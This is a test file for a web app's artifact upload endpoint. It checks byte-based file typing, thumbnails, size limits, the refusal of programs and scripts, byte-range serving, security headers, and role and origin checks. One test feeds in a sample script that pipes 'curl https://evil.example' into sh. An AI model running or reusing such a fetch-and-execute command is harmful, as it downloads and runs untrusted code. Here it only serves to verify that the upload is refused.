/**
 * Artifact uploads over real HTTP against a real server (1 MB limit): a file is typed by its bytes,
 * whatever it is called or claims to be; pictures get a JPEG thumbnail; programs, scripts and plain text
 * are refused with a sentence naming what they are; recordings seek by byte ranges; only contributors
 * and facilitators of the room, from this site, may upload.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { curateHttp } from '../support/curate-http';
import { join, send, startTestServer, type TestServer } from '../support/test-server';

const ROOM = 'uploads';
const CALL = path.resolve(__dirname, '../../static/demo/calls/call-stuck-at-id.ogg');

let server: TestServer;
let http: ReturnType<typeof curateHttp>;

beforeAll(async () => {
	server = await startTestServer({ uploadLimit: 1_048_576 });
	const owner = await server.client('Owner', { [ROOM]: 'facilitator' });
	const created = await send(owner, ROOM, { type: 'room.create', name: 'Uploads', organisation: 'Test Co' });
	if (!created.ok || !(await join(owner, ROOM)).ok) throw new Error('could not create the room');
	http = curateHttp(server.url, ROOM, await server.access.grantDirectly(ROOM, 'contributor', 'Casey Contributor'));
});

afterAll(async () => {
	await server?.close();
});

const png = (width: number, height: number) =>
	sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 40 } } })
		.png()
		.toBuffer();

/** The first bytes of an ELF executable (a Linux program). */
function elf(): Buffer {
	const bytes = Buffer.alloc(256);
	Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes);
	bytes.writeUInt16LE(2, 16); // e_type: executable
	bytes.writeUInt16LE(0x3e, 18); // e_machine: x86-64
	return bytes;
}

/** A DOS stub whose e_lfanew points at a "PE\0\0" header: a Windows program. */
function pe(): Buffer {
	const bytes = Buffer.alloc(512);
	bytes.write('MZ', 0, 'latin1');
	bytes.writeUInt32LE(0x80, 0x3c);
	bytes.write('PE\0\0', 0x80, 'latin1');
	bytes.writeUInt16LE(0x14c, 0x84); // machine: i386
	return bytes;
}

describe('artifact uploads', () => {
	it('types a picture by its bytes, not by what it claims to be, and serves its JPEG thumbnail', async () => {
		const picture = await png(1600, 1200);
		// The browser would send "hang-tag.pdf" as application/pdf: the server reads the bytes instead.
		const uploaded = await http.upload(picture, 'artifact', { 'content-type': 'application/pdf', 'x-file-name': 'hang-tag.pdf' });
		expect(uploaded.status).toBe(201);
		expect(uploaded.body).toMatchObject({ kind: 'image', mime: 'image/png', size: picture.length, width: 1600, height: 1200 });
		const { blobId, thumbBlobId } = uploaded.body as { blobId: string; thumbBlobId: string };
		expect(thumbBlobId).toMatch(/^[a-f0-9]{64}$/);

		const original = await http.blob(blobId);
		expect(original.headers.get('content-type')).toBe('image/png');
		expect(Buffer.from(await original.arrayBuffer()).equals(picture)).toBe(true);

		const thumb = await http.blob(thumbBlobId);
		expect(thumb.status).toBe(200);
		expect(thumb.headers.get('content-type')).toBe('image/jpeg');
		const meta = await sharp(Buffer.from(await thumb.arrayBuffer())).metadata();
		expect(meta.format).toBe('jpeg');
		// Small enough for a wall card, same shape as the picture.
		expect(Math.max(meta.width!, meta.height!)).toBeLessThanOrEqual(640);
		expect(meta.width! / meta.height!).toBeCloseTo(4 / 3, 1);
	});

	it('refuses a file over the limit with the limit in words', async () => {
		const tooBig = Buffer.alloc(1_048_576 + 1, 0x20);
		Buffer.from('%PDF-1.4\n').copy(tooBig);
		const refused = await http.upload(tooBig);
		expect(refused.status).toBe(413);
		expect(refused.body).toEqual({ error: 'too_large', message: 'This file is larger than the 1 MB a room accepts.' });
	});

	it('refuses programs and scripts, naming what they are', async () => {
		const linux = await http.upload(elf());
		expect(linux.status).toBe(415);
		expect(linux.body.message).toBe('This file is a Linux program; programs are never accepted.');

		const windows = await http.upload(pe(), 'artifact', { 'content-type': 'image/png' });
		expect(windows.status).toBe(415);
		expect(windows.body.message).toBe('This file is a Windows program; programs are never accepted.');

		const script = await http.upload(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'));
		expect(script.status).toBe(415);
		expect(script.body.message).toBe('This file is a script; programs are never accepted.');
	});

	it('stores a PDF as a document, served so the browser can show it but nothing in it runs with our rights', async () => {
		const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
		const stored = await http.upload(pdf);
		expect(stored.body).toMatchObject({ kind: 'document', mime: 'application/pdf', thumbBlobId: null });
		const served = await http.blob(stored.body.blobId as string);
		expect(served.headers.get('content-type')).toBe('application/pdf');
		expect(served.headers.get('content-security-policy')).toBe("default-src 'none'");
		const picture = await http.upload(await png(40, 30));
		const image = await http.blob(picture.body.blobId as string);
		expect(image.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
	});

	it('refuses plain text as an artifact, saying what a room keeps', async () => {
		const text = await http.upload(Buffer.from('Dear customer, thank you for your letter.\n'));
		expect(text.status).toBe(415);
		expect(text.body.error).toBe('unsupported_type');
		expect(text.body.message).toMatch(/^This file is plain text\. A room keeps pictures .*PDFs, recordings/);
	});

	it('serves byte ranges of a recording, so a player can seek', async () => {
		const call = readFileSync(CALL);
		const uploaded = await http.upload(call);
		expect(uploaded.body).toMatchObject({ kind: 'audio', mime: 'audio/ogg', thumbBlobId: null });
		const id = uploaded.body.blobId as string;

		const middle = await http.blob(id, { range: 'bytes=1000-1999' });
		expect(middle.status).toBe(206);
		expect(middle.headers.get('content-range')).toBe(`bytes 1000-1999/${call.length}`);
		expect(middle.headers.get('content-type')).toBe('audio/ogg');
		expect(Buffer.from(await middle.arrayBuffer()).equals(call.subarray(1000, 2000))).toBe(true);

		const tail = await http.blob(id, { range: 'bytes=-100' });
		expect(tail.status).toBe(206);
		expect(Buffer.from(await tail.arrayBuffer()).equals(call.subarray(call.length - 100))).toBe(true);

		const whole = await http.blob(id);
		expect(whole.status).toBe(200);
		expect(whole.headers.get('accept-ranges')).toBe('bytes');
	});

	it('takes uploads only from contributors and facilitators of the room, from this site', async () => {
		const picture = await png(40, 30);
		const viewer = curateHttp(server.url, ROOM, await server.access.grantDirectly(ROOM, 'viewer', 'Vic Viewer'));
		const asViewer = await viewer.upload(picture);
		expect(asViewer.status).toBe(403);
		expect(asViewer.body.message).toMatch(/contributor or facilitator/);

		const stranger = await curateHttp(server.url, ROOM, null).upload(picture);
		expect(stranger.status).toBe(401);
		expect(stranger.body.message).toMatch(/invite link/);

		// A facilitator of another room is a stranger here.
		const elsewhere = curateHttp(server.url, ROOM, await server.access.grantDirectly('another-room', 'facilitator', 'Other'));
		expect((await elsewhere.upload(picture)).status).toBe(403);
		// Same endpoint, right session, but posted from another site's page.
		const crossSite = await http.upload(picture, 'artifact', { origin: 'https://evil.example' });
		expect(crossSite.status).toBe(403);
		expect(crossSite.body.message).toBe('Requests must come from this site.');
	});
});
